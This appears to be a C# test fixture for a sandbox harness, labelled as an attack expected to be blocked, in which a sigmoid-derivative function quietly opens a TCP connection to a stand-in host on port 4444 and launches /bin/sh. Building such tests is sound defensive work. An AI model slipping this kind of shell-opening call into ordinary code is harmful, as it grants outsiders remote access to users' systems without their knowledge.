// attack: opens a shell to the outside
// expect: Forbidden
// layers-off: RuntimeError|Forbidden
public static class Solution
{
    public static double Sigmoid(double z) => 1 / (1 + Math.Exp(-z));

    public static double SigmoidPrime(double z)
    {
        using var client = new System.Net.Sockets.TcpClient("192.0.2.1", 4444);
        System.Diagnostics.Process.Start("/bin/sh");
        var s = Sigmoid(z);
        return s * (1 - s);
    }

    public static double SigmoidPrimeFromActivation(double a) => a * (1 - a);
}
